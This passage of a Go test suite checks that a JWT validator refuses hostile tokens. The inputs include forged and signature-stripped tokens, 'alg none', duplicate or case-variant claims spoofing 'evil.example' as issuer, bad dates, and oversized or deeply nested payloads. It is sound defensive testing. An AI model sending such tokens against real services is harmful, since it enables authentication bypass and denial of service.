		return strings.NewReplacer("-", "+", "_", "/").Replace(seg)
	}
	// nonCanonical sets an unused trailing bit of the last character.
	nonCanonical := func(seg string) string {
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
		last := strings.IndexByte(alphabet, seg[len(seg)-1])
		return seg[:len(seg)-1] + string(alphabet[last|1])
	}
	var cases []secCase
	for i, name := range names {
		cases = append(cases,
			secCase{name + ": one '=' appended", join(i, segs[i]+"="), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": '==' appended", join(i, segs[i]+"=="), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": padded base64url", join(i, stdPad(segs[i])), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": standard alphabet (+ /)", join(i, toStd(segs[i])), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": '+' inserted", join(i, segs[i][:4]+"+"+segs[i][4:]), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": '/' inserted", join(i, segs[i][:4]+"/"+segs[i][4:]), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": '=' inside", join(i, segs[i][:4]+"="+segs[i][4:]), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": non-zero trailing bits", join(i, nonCanonical(segs[i])), validator.ErrMalformed, rEncoding, noLookup},
			secCase{name + ": impossible length (4k+1)", join(i, segs[i][:len(segs[i])-len(segs[i])%4]+"A"), validator.ErrMalformed, rEncoding, noLookup},
		)
		for _, ws := range []struct{ name, s string }{
			{"space", " "}, {"tab", "\t"}, {"CR", "\r"}, {"LF", "\n"}, {"CRLF", "\r\n"}, {"NUL", "\x00"},
			{"VT", "\v"}, {"FF", "\f"}, {"DEL", "\x7f"}, {"NBSP", "\u00a0"}, {"LS", "\u2028"}, {"BOM", "\ufeff"}, {"high byte", "\xff"},
		} {
			cases = append(cases,
				secCase{fmt.Sprintf("%s: %s inside", name, ws.name), join(i, segs[i][:5]+ws.s+segs[i][5:]), validator.ErrMalformed, rEncoding, noLookup},
				secCase{fmt.Sprintf("%s: %s at the end", name, ws.name), join(i, segs[i]+ws.s), validator.ErrMalformed, rEncoding, noLookup},
				secCase{fmt.Sprintf("%s: %s at the start", name, ws.name), join(i, ws.s+segs[i]), validator.ErrMalformed, rEncoding, noLookup},
			)
		}
	}
	cases = append(cases,
		secCase{"Bearer prefix left on", "Bearer " + good, validator.ErrMalformed, rEncoding, noLookup},
		secCase{"quoted token", `"` + good + `"`, validator.ErrMalformed, rEncoding, noLookup},
		secCase{"trailing LF", good + "\n", validator.ErrMalformed, rEncoding, noLookup},
		secCase{"percent-encoded", strings.ReplaceAll(good, "-", "%2D"), validator.ErrMalformed, rEncoding, noLookup},

		// Not three segments.
		secCase{"empty string", "", validator.ErrMalformed, rSegments, noLookup},
		secCase{"one dot", ".", validator.ErrMalformed, rSegments, noLookup},
		secCase{"two dots", "..", validator.ErrMalformed, rSegments, noLookup},
		secCase{"three dots", "...", validator.ErrMalformed, rSegments, noLookup},
		secCase{"one segment", h, validator.ErrMalformed, rSegments, noLookup},
		secCase{"empty header", "." + p + "." + s, validator.ErrMalformed, rSegments, noLookup},
		secCase{"empty payload", h + ".." + s, validator.ErrMalformed, rSegments, noLookup},
		secCase{"extra empty segment", good + ".", validator.ErrMalformed, rSegments, noLookup},
		secCase{"four segments", good + "." + s, validator.ErrMalformed, rSegments, noLookup},
		secCase{"JWE (five segments)", b64url.EncodeToString([]byte(`{"alg":"RSA-OAEP","enc":"A256GCM","kid":"rsa-1"}`)) + ".ZW5j.aXY.Y3Q.dGFn", validator.ErrMalformed, rSegments, noLookup},
		secCase{"Auth0 opaque JWE (dir, empty key)", b64url.EncodeToString([]byte(`{"alg":"dir","enc":"A256GCM","iss":"`+e.iss.URL+`"}`)) + "..aXY.Y3Q.dGFn", validator.ErrMalformed, rSegments, noLookup},
		secCase{"JSON serialization (flattened)", string(secJSON(map[string]string{"protected": h, "payload": p, "signature": s})), validator.ErrMalformed, "", noLookup},
		secCase{"JSON serialization (general)", string(secJSON(map[string]any{"payload": p, "signatures": []map[string]string{{"protected": h, "signature": s}}})), validator.ErrMalformed, "", noLookup},
		secCase{"JSON serialization with dots", `{"protected":"` + h + `.","payload":"` + p + `.","signature":"` + s + `"}`, validator.ErrMalformed, rEncoding, noLookup},
	)

	// Headers that are not one JSON object.
	payload := e.body(nil)
	for _, hd := range []struct{ name, header, reason string }{
		{"header an array", `[{"alg":"RS256","typ":"JWT","kid":"rsa-1"}]`, rHeaderJSON},
		{"header a string", `"RS256"`, rHeaderJSON},
		{"header a number", `256`, rHeaderJSON},
		{"header null", `null`, rHeaderJSON},
		{"header true", `true`, rHeaderJSON},
		{"header empty object", `{}`, rNoAlg},
		{"header truncated", `{"alg":"RS256","typ":"JWT","kid":"rsa-1"`, rHeaderJSON},
		{"header trailing comma", `{"alg":"RS256","typ":"JWT","kid":"rsa-1",}`, rHeaderJSON},
		{"header trailing garbage", `{"alg":"RS256","typ":"JWT","kid":"rsa-1"}x`, rHeaderJSON},
		{"header two objects", `{"alg":"RS256","typ":"JWT","kid":"rsa-1"}{"alg":"none"}`, rHeaderJSON},
		{"header with BOM", "\ufeff" + hdr("RS256", "rsa-1"), rHeaderJSON},
		{"header single quotes", `{'alg':'RS256','typ':'JWT','kid':'rsa-1'}`, rHeaderJSON},
		{"header empty", ``, rSegments},
		{"header invalid UTF-8 in a value", "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"rsa-1\",\"x\":\"\xff\"}", rHeaderJSON},
		{"header invalid UTF-8 in a name", "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"rsa-1\",\"\xc3\x28\":1}", rHeaderJSON},
		{"header lone surrogate in kid", `{"alg":"RS256","typ":"JWT","kid":"rsa-1\ud800"}`, rHeaderJSON},
		{"header lone low surrogate", `{"alg":"RS256","typ":"JWT","kid":"rsa-1","x":"\udc00"}`, rHeaderJSON},
		{"header duplicate unknown member", `{"alg":"RS256","typ":"JWT","kid":"rsa-1","x":1,"x":2}`, rHeaderJSON},
		{"header duplicate typ", `{"alg":"RS256","typ":"JWT","typ":"at+jwt","kid":"rsa-1"}`, rHeaderJSON},
		{"header nested 10k arrays (over the size cap)", `{"alg":"RS256","typ":"JWT","kid":"rsa-1","x":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + `}`, rTooLarge},
	} {
		tok := e.raw(e.rsa, hd.header, payload)
		want := validator.ErrMalformed
		if hd.reason == rNoAlg {
			want = validator.ErrAlgorithm
		}
		cases = append(cases, secCase{hd.name, tok, want, hd.reason, noLookup})
	}
	cases = append(cases, secCase{"header with whitespace (valid JSON)", e.raw(e.rsa, " {\n\t\"alg\" : \"RS256\" ,\r\n \"typ\":\"JWT\", \"kid\":\"rsa-1\" } ", payload), nil, "", lookup})

	// Payloads that are not one JSON object, signed.
	for _, pl := range []struct{ name, payload, reason string }{
		{"payload an array", `[` + payload + `]`, rNotObject},
		{"payload a string", `"` + e.iss.URL + `"`, rNotObject},
		{"payload a number", `1764184245`, rNotObject},
		{"payload null", `null`, rNotObject},
		{"payload true", `true`, rNotObject},
		{"payload truncated", payload[:len(payload)-1], rSyntax},
		{"payload trailing garbage", payload + "x", rSyntax},
		{"payload two objects", payload + payload, rSyntax},
		{"payload with BOM", "\ufeff" + payload, rSyntax},
		{"payload invalid UTF-8 in sub", strings.Replace(payload, "auth0|u1", "auth0|u1\xff", 1), rBadUTF8},
		{"payload overlong UTF-8", strings.Replace(payload, "auth0|u1", "auth0|u1\xc0\xaf", 1), rBadUTF8},
		{"payload lone high surrogate in sub", strings.Replace(payload, "auth0|u1", `auth0|u1\ud800`, 1), rBadUTF8},
		{"payload lone low surrogate in sub", strings.Replace(payload, "auth0|u1", `auth0|u1\udfff`, 1), rBadUTF8},
		{"payload reversed surrogate pair", strings.Replace(payload, "auth0|u1", `\udc00\ud800`, 1), rBadUTF8},
		{"payload lone surrogate in a claim name", e.body(nil, `"\ud800":1`), rBadUTF8},
		{"payload nested 5k arrays (over the size cap)", e.body(nil, `"x":`+strings.Repeat("[", 5000)+strings.Repeat("]", 5000)), rTooLarge},
	} {
		want, reach := validator.ErrMalformed, noLookup
		cases = append(cases, secCase{pl.name, e.signed(pl.payload), want, pl.reason, reach})
	}
	cases = append(cases, secCase{"payload empty object", e.signed(`{}`), validator.ErrIssuer, rIssuer, noLookup})
	e.run(t, cases)

	t.Run("deep nesting under a raised size cap", func(t *testing.T) {
		big := newSecEnv(t, withConfig(func(c *validator.Config) { c.MaxTokenSize = 1 << 20 }))
		deep := strings.Repeat("[", 10_001) + strings.Repeat("]", 10_001)
		deepObj := strings.Repeat(`{"a":`, 10_001) + "1" + strings.Repeat("}", 10_001)
		big.run(t, []secCase{
			{"header 10k nested arrays", big.raw(big.rsa, `{"alg":"RS256","typ":"JWT","kid":"rsa-1","x":`+deep+`}`, big.body(nil)), validator.ErrMalformed, rHeaderJSON, noLookup},
			{"header 10k nested objects", big.raw(big.rsa, `{"alg":"RS256","typ":"JWT","kid":"rsa-1","x":`+deepObj+`}`, big.body(nil)), validator.ErrMalformed, rHeaderJSON, noLookup},
			{"payload 10k nested arrays", big.signed(big.body(nil, `"x":`+deep)), validator.ErrMalformed, rSyntax, noLookup},
			{"payload 10k nested objects", big.signed(big.body(nil, `"x":`+deepObj)), validator.ErrMalformed, rSyntax, noLookup},
			{"payload 10k nested before iss", big.signed(`{"x":` + deep + `,` + big.body(nil)[1:]), validator.ErrMalformed, rSyntax, noLookup},
		})
	})
}

func TestSecurityClaims(t *testing.T) {
	e := newSecEnv(t)
	now := e.clock.Now().Unix()
	iss := fmt.Sprintf("%q", e.iss.URL)
	date := func(name string, v any) string { return fmt.Sprintf("%q:%v", name, v) }
	drop := func(names ...string) []string { return names }
	var cases []secCase
	add := func(name, payload string, want error, reason string, reach secReach) {
		cases = append(cases, secCase{name, e.signed(payload), want, reason, reach})
	}

	// Duplicate and case-variant names: refused as malformed before the
	// key lookup, so that no two parsers can disagree on the claims.
	add("duplicate iss (same value)", e.body(nil, `"iss":`+iss), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate iss (evil second)", e.body(nil, `"iss":"https://evil.example/"`), validator.ErrMalformed, rDuplicate, noLookup)
	// A claims set refused for a duplicate is refused for its issuer when
	// its first iss is unknown. Still refused, before any lookup.
	add("duplicate iss (evil first)", `{"iss":"https://evil.example/",`+e.body(nil)[1:], validator.ErrIssuer, rIssuer, noLookup)
	add("duplicate aud", e.body(nil, `"aud":"https://other.example.com"`), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate exp", e.body(nil, date("exp", now+1e6)), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate sub", e.body(nil, `"sub":"auth0|admin"`), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate scope", e.body(nil, `"scope":"admin"`), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate custom claim", e.body(nil, `"https://example.com/roles":["user"]`, `"https://example.com/roles":["admin"]`), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate inside a custom claim", e.body(nil, `"https://example.com/org":{"role":"user","role":"admin"}`), validator.ErrMalformed, rDuplicate, noLookup)
	add("duplicate through an escape", e.body(nil, `"\u0073ub":"auth0|admin"`), validator.ErrMalformed, "", noLookup)
	add("EXP instead of exp", e.body(drop("exp"), date("EXP", now+3600)), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Exp beside an expired exp", e.body(drop("exp"), date("exp", now-3600), date("Exp", now+3600)), validator.ErrMalformed, rCaseVariant, noLookup)
	add("ISS beside iss", e.body(nil, `"ISS":"https://evil.example/"`), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Iss instead of iss", e.body(drop("iss"), `"Iss":`+iss), validator.ErrMalformed, rCaseVariant, noLookup)
	add("AUD beside aud", e.body(nil, `"AUD":"https://other.example.com"`), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Aud instead of aud", e.body(drop("aud"), `"Aud":"https://api.example.com"`), validator.ErrMalformed, rCaseVariant, noLookup)
	add("NBF", e.body(nil, date("NBF", now+1e6)), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Iat", e.body(nil, date("Iat", now)), validator.ErrMalformed, rCaseVariant, noLookup)
	add("SCOPE", e.body(nil, `"SCOPE":"admin"`), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Permissions", e.body(nil, `"Permissions":["admin"]`), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Client_ID", e.body(nil, `"Client_ID":"admin-app"`), validator.ErrMalformed, rCaseVariant, noLookup)
	add("Sub", e.body(nil, `"Sub":"auth0|admin"`), validator.ErrMalformed, rCaseVariant, noLookup)

	// NumericDate tricks.
	for _, c := range []struct {
		name, claim string
		value       any
		reason      string
	}{
		{"exp as a string", "exp", fmt.Sprintf("%q", fmt.Sprint(now+3600)), rDateType},
		{"exp as a date string", "exp", `"2099-01-01T00:00:00Z"`, rDateType},
		{"nbf as a string", "nbf", `"0"`, rDateType},
		{"iat as a string", "iat", fmt.Sprintf("%q", fmt.Sprint(now)), rDateType},
		{"exp null", "exp", "null", rDateType},
		{"exp true", "exp", "true", rDateType},
		{"exp an array", "exp", fmt.Sprintf("[%d]", now+3600), rDateType},
		{"exp an object", "exp", `{"$numberLong":"4102444800"}`, rDateType},
		{"exp 1e300", "exp", "1e300", rDateRange},
		{"exp 1e19 (past int64)", "exp", "1e19", rDateRange},
		{"exp MaxInt64", "exp", "9223372036854775807", rDateRange},
		{"exp year 10000", "exp", "253402300800", rDateRange},
		{"exp negative", "exp", "-1", rDateRange},
		{"exp -1e300", "exp", "-1e300", rDateRange},
		{"nbf negative", "nbf", "-5", rDateRange},
		{"nbf 1e300", "nbf", "1e300", rDateRange},
		{"iat 1e300", "iat", "1e300", rDateRange},
		{"iat negative", "iat", "-1", rDateRange},
	} {
		add(c.name, e.body(drop(c.claim), date(c.claim, c.value)), validator.ErrMalformed, c.reason, noLookup)
	}
	// Documented: RFC 7519 section 2 allows non-integer NumericDates, and
	// this package accepts them with nanosecond precision.
	add("exp a float", e.body(drop("exp"), date("exp", fmt.Sprintf("%d.5", now+3600))), nil, "", lookup)
	add("exp with an exponent", e.body(drop("exp"), date("exp", fmt.Sprintf("%.4fe0", float64(now+3600)))), nil, "", lookup)
	add("iat and nbf floats", e.body(drop("iat"), date("iat", fmt.Sprintf("%d.25", now)), date("nbf", fmt.Sprintf("%d.75", now-1))), nil, "", lookup)
	add("exp 1e10 (year 2286)", e.body(drop("exp"), date("exp", "1e10")), nil, "", lookup)
	add("exp the largest (9999-12-31)", e.body(drop("exp"), date("exp", "253402300799")), nil, "", lookup)
	add("exp 0", e.body(drop("exp"), date("exp", 0)), validator.ErrExpired, rExpired, lookup)
	add("exp -0", e.body(drop("exp"), date("exp", "-0")), validator.ErrExpired, rExpired, lookup)
	add("exp missing", e.body(drop("exp")), validator.ErrExpired, rNoExp, lookup)
	add("exp 1e-9", e.body(drop("exp"), date("exp", "1e-9")), validator.ErrExpired, rExpired, lookup)

	// iss is compared exactly, before any key lookup.
	for _, v := range []string{
		strings.TrimSuffix(e.iss.URL, "/"),
		e.iss.URL + "/",
		strings.ToUpper(e.iss.URL),
		strings.Replace(e.iss.URL, "http://", "HTTP://", 1),
		strings.Replace(e.iss.URL, "http://", "https://", 1),
		strings.Replace(e.iss.URL, "127.0.0.1", "localhost", 1),
		e.iss.URL + " ",
		" " + e.iss.URL,
		e.iss.URL + "\u0000",
		e.iss.URL + "?",
		e.iss.URL + "#",
		e.iss.URL + "tenant2/",
		e.iss.URL + "..",
		"https://evil.example/",
		"",
	} {
		reason := rIssuer
		if v+"/" == e.iss.URL || v == e.iss.URL+"/" {
			reason = rIssuerSlash
		}
		add(fmt.Sprintf("iss %q", v), e.body(drop("iss"), `"iss":`+js(v)), validator.ErrIssuer, reason, noLookup)
	}
	add("iss missing", e.body(drop("iss")), validator.ErrIssuer, rIssuer, noLookup)
	// The signature segment is decoded only for a known issuer, also
	// when iss is missing.
	cases = append(cases, secCase{"unknown iss, signature segment not base64url",
		e.signed(e.body(drop("iss"), `"iss":"https://evil.example/"`)) + "!", validator.ErrIssuer, rIssuer, noLookup})
	cases = append(cases, secCase{"iss missing, signature segment not base64url",
		e.signed(e.body(drop("iss"))) + "!", validator.ErrIssuer, rIssuer, noLookup})
	add("iss an array", e.body(drop("iss"), `"iss":[`+iss+`]`), validator.ErrMalformed, rWrongType, noLookup)
	add("iss an array of two", e.body(drop("iss"), `"iss":[`+iss+`,"https://evil.example/"]`), validator.ErrMalformed, rWrongType, noLookup)
	add("iss null", e.body(drop("iss"), `"iss":null`), validator.ErrMalformed, rWrongType, noLookup)
	add("iss an object", e.body(drop("iss"), `"iss":{"url":`+iss+`}`), validator.ErrMalformed, rWrongType, noLookup)
	add("iss with escaped slashes (the same string)", e.body(drop("iss"), `"iss":`+strings.ReplaceAll(iss, "/", `\/`)), nil, "", lookup)

	// aud: at least one accepted value, compared exactly.
	aud := testkit.DefaultAudience
	for _, v := range []string{aud + "/", strings.TrimPrefix(aud, "https://"), strings.ToUpper(aud), "HTTPS://api.example.com", aud + " ", "", "https://api.example.com.evil.example", "test-client"} {
		add(fmt.Sprintf("aud %q", v), e.body(drop("aud"), `"aud":`+js(v)), validator.ErrAudience, rAudience, lookup)
	}
	add("aud empty array", e.body(drop("aud"), `"aud":[]`), validator.ErrAudience, rAudience, lookup)
	add("aud missing", e.body(drop("aud")), validator.ErrAudience, rAudience, lookup)
	add("aud array of other APIs", e.body(drop("aud"), `"aud":["https://billing.example.com","https://admin.example.com"]`), validator.ErrAudience, rAudience, lookup)
	add("aud array with ours and others", e.body(drop("aud"), fmt.Sprintf(`"aud":["https://billing.example.com",%q,"https://tenant/userinfo"]`, aud)), nil, "", lookup)
	add("aud array with ours twice", e.body(drop("aud"), fmt.Sprintf(`"aud":[%q,%q]`, aud, aud)), nil, "", lookup)
	add("aud a number", e.body(drop("aud"), `"aud":1`), validator.ErrMalformed, rAudienceType, noLookup)
	add("aud with a null", e.body(drop("aud"), fmt.Sprintf(`"aud":[%q,null]`, aud)), validator.ErrMalformed, rAudienceType, noLookup)
	add("aud an object", e.body(drop("aud"), fmt.Sprintf(`"aud":{%q:true}`, aud)), validator.ErrMalformed, rAudienceType, noLookup)
	add("aud nested array", e.body(drop("aud"), fmt.Sprintf(`"aud":[[%q]]`, aud)), validator.ErrMalformed, rAudienceType, noLookup)

	// Other tokens of the same issuer.
	idToken := fmt.Sprintf(`{"iss":%s,"sub":"auth0|u1","aud":"test-client","iat":%d,"exp":%d,"nonce":"n-0S6_WzA2Mj","name":"Jane","email":"jane@example.com","sid":"s1"}`, iss, now, now+3600)
	add("ID token (aud = client id, nonce)", idToken, validator.ErrAudience, rAudience, lookup)
	add("token for another API of the same issuer", e.body(drop("aud"), `"aud":"https://billing.example.com"`), validator.ErrAudience, rAudience, lookup)
	cases = append(cases,
		secCase{"refresh token (Auth0 v1 format)", "v1.MRrT0xX8lOgq1fR7pZ2sY4nH6bVd9kJcA3eGwUuQiLmNoPzBtCyDxEfHjKlMnOpQ", validator.ErrMalformed, rSegments, noLookup},
		secCase{"refresh token (opaque)", "8xLOxBtZp8rKt2d7yTFbqG3w5hNcVu1M", validator.ErrMalformed, rSegments, noLookup},
		secCase{"authorization code", "SplxlOBeZQQYbYS6WxSbIA", validator.ErrMalformed, rSegments, noLookup},
	)

	// CVE-2024-51744 class: a forged token is reported as forged, even
	// when its claims are wrong too.
	forged := func(payload string) string { return e.raw(e.attacker, hdr("RS256", "rsa-1"), payload) }
	stripped := func(payload string) string { return strings.Join(strings.Split(e.signed(payload), ".")[:2], ".") + "." }
	expired := e.body(drop("exp", "iat"), date("iat", now-7200), date("exp", now-3600))
	for _, c := range []struct{ name, payload string }{
		{"expired", expired},
		{"exp missing", e.body(drop("exp"))},
		{"not yet valid", e.body(nil, date("nbf", now+3600))},
		{"issued in the future", e.body(drop("iat"), date("iat", now+3600))},
		{"wrong audience", e.body(drop("aud"), `"aud":"https://billing.example.com"`)},
		{"sub missing", e.body(drop("sub"))},
	} {
		cases = append(cases,
			secCase{c.name + " and signed by the attacker", forged(c.payload), validator.ErrSignature, rBadSig, lookup},
			secCase{c.name + " and signature stripped", stripped(c.payload), validator.ErrSignature, rBadSig, lookup},
			secCase{c.name + " and signature bit-flipped", withSig(e.signed(c.payload), flip(7, 0x04)), validator.ErrSignature, rBadSig, lookup},
		)
	}
	add("expired, genuinely signed (control)", expired, validator.ErrExpired, rExpired, lookup)
	e.run(t, cases)

	t.Run("RFC 9068 profile refuses an ID token by typ", func(t *testing.T) {
		rfc := newSecEnv(t, withConfig(func(c *validator.Config) { c.Profile = validator.ProfileRFC9068 }))
		rfc.check(t, rfc.raw(rfc.rsa, hdr("RS256", "rsa-1"), idToken), validator.ErrTokenType, rTyp, noLookup)
	})
}

func TestSecurityResourceExhaustion(t *testing.T) {
	e := newSecEnv(t)
	ctx := context.Background()
	dots := strings.Repeat(".", 4<<20)
	good := e.mint()
	h, p, s := testkit.Segments(good)
	oversized := e.mint(testkit.WithClaim("https://example.com/blob", strings.Repeat("x", 9<<10)))
	e.run(t, []secCase{
		{"4 MiB of dots", dots, validator.ErrMalformed, rTooLarge, noLookup},
		{"4 MiB of base64", strings.Repeat("A", 4<<20), validator.ErrMalformed, rTooLarge, noLookup},
		{"4 MiB in three segments", strings.Repeat("A", 2<<20) + "." + strings.Repeat("A", 1<<20) + "." + strings.Repeat("A", 1<<20), validator.ErrMalformed, rTooLarge, noLookup},
		{"4 MiB of a valid token repeated", strings.Repeat(good, (4<<20)/len(good)), validator.ErrMalformed, rTooLarge, noLookup},
		{"oversized, well-formed and genuinely signed", oversized, validator.ErrMalformed, rTooLarge, noLookup},
		{"valid token with 4 MiB of junk signature", h + "." + p + "." + s + strings.Repeat("A", 4<<20), validator.ErrMalformed, rTooLarge, noLookup},
	})

	t.Run("bounded allocations", func(t *testing.T) {
		big := newSecEnv(t, withConfig(func(c *validator.Config) { c.MaxTokenSize = 8 << 20 }))
		for _, tc := range []struct {
			name  string
			v     *validator.Validator
			token string
			want  string
			max   float64
		}{
			{"4 MiB of dots, default cap", e.local, dots, rTooLarge, 0},
			{"oversized token, default cap", e.local, oversized, rTooLarge, 0},
			{"4 MiB of dots, 8 MiB cap", big.local, dots, rSegments, 0},
			{"4 MiB of dots after a segment, 8 MiB cap", big.local, "eyJ" + dots, rSegments, 0},
			{"4 MiB with a CR, 8 MiB cap", big.local, strings.Repeat("A", 4<<20) + "\r", rEncoding, 0},
			{"empty", e.local, "", rSegments, 0},
			{"JWE", e.local, "a.b.c.d.e", rSegments, 0},
			{"bad base64 header", e.local, "e$J.e.e", rEncoding, 4},
			{"alg none", e.local, e.raw(nil, `{"alg":"none"}`, `{}`), rAlg, 6},
		} {
			t.Run(tc.name, func(t *testing.T) {
				allocs := testing.AllocsPerRun(20, func() {
					_, err := tc.v.Validate(ctx, tc.token)
					if e, ok := err.(*validator.Error); !ok || e.Reason != tc.want {
						t.Fatalf("got %v, want %q", err, tc.want)
					}
				})
				assert.LessOrEqual(t, allocs, tc.max, "allocations per refusal")
			})
		}
	})

	t.Run("2k garbage tokens", func(t *testing.T) {
		rng := mrand.New(mrand.NewPCG(1, 2))
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/ \t\r\n{}\":,"
		fetches, lookups := e.iss.JWKSRequests(), e.lookups.n.Load()
		for i := range 2000 {
			var b strings.Builder
			switch i % 4 {
			case 0: // random bytes
				for range rng.IntN(600) {
					b.WriteByte(byte(rng.IntN(256)))
				}
			case 1: // random alphabet soup
				for range rng.IntN(600) {
					b.WriteByte(alphabet[rng.IntN(len(alphabet))])
				}
			case 2: // a real header and payload with a random signature
				sig := make([]byte, 256)
				for j := range sig {
					sig[j] = byte(rng.IntN(256))
				}
				b.WriteString(h + "." + p + "." + b64url.EncodeToString(sig))
			case 3: // a real token with one random byte changed
				tok := []byte(good)
				tok[rng.IntN(len(tok))] = byte(rng.IntN(256))
				b.Write(tok)
			}
			token := b.String()
			if token == good {
				continue
			}
			before := e.lookups.n.Load()
			for _, v := range []*validator.Validator{e.local, e.remote} {
				c, err := v.Validate(ctx, token)
				if c != nil || err == nil {
					t.Fatalf("garbage token %d accepted", i)
				}
				var ve *validator.Error
				if !assert.ErrorAs(t, err, &ve) || !assert.ErrorIs(t, err, validator.ErrInvalidToken) {
					return
				}
			}
			if i%4 < 2 && e.lookups.n.Load() != before {
				t.Fatalf("random garbage %q reached key selection", token)
			}
		}
		// A byte changed in a kid may cost one rate-limited refresh.
		assert.LessOrEqual(t, e.iss.JWKSRequests()-fetches, 1, "garbage costs no fetch")
		assert.Positive(t, e.lookups.n.Load()-lookups, "genuine headers with bad signatures do reach key selection")
	})

	t.Run("flood of unknown kids costs at most one fetch", func(t *testing.T) {
		fetches := e.iss.JWKSRequests()
		for i := range 200 {
			tok := e.mint(testkit.WithHeader("kid", fmt.Sprintf("rotated-%d", i)))
			_, err := e.remote.Validate(ctx, tok)
			secErr(t, err, validator.ErrUnknownKey, rKid, tok)
		}
		assert.LessOrEqual(t, e.iss.JWKSRequests()-fetches, 1)
	})
}

// TestSecurityTokenCache: the opt-in cache of verified tokens must not
// turn a near-copy of a cached token, or a cached token past its exp, into
// an accepted one.
func TestSecurityTokenCache(t *testing.T) {
	e := newSecEnv(t, withConfig(func(c *validator.Config) { c.CacheSize = 64 }))
	good := e.mint()
	e.accept(t, good)
	e.accept(t, good) // served from the cache
	e.run(t, []secCase{
		{"cached token, signature bit-flipped", withSig(good, flip(-1, 1)), validator.ErrSignature, rBadSig, lookup},
		{"cached token, signature stripped", strings.Join(strings.Split(good, ".")[:2], ".") + ".", validator.ErrSignature, rBadSig, lookup},
		{"cached token plus a signature byte", good + "A", validator.ErrSignature, rBadSig, lookup},
		{"cached token, Bearer prefix", "Bearer " + good, validator.ErrMalformed, rEncoding, noLookup},
	})
	e.clock.Set(secNow.Add(time.Hour + validator.DefaultLeeway))
	defer e.clock.Set(secNow)
	e.check(t, good, validator.ErrExpired, rExpired, lookup)
}
